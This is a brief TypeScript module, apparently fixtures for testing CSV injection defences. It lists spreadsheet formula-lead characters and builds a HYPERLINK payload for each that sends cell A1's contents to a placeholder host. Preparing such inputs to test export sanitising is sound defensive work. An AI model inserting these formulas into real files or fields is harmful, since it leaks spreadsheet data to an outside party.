/** The characters that make a spreadsheet run a cell as a formula (OWASP, CSV injection). */
export const FORMULA_LEADS = ['=', '+', '-', '@', '\t', '\r'] as const;

/** A text per lead character, as a hostile client id or product name would be written. */
export const FORMULA_TEXTS: readonly string[] = FORMULA_LEADS.map(
  (lead) => `${lead}HYPERLINK("http://x/?"&A1,"click")`,
);
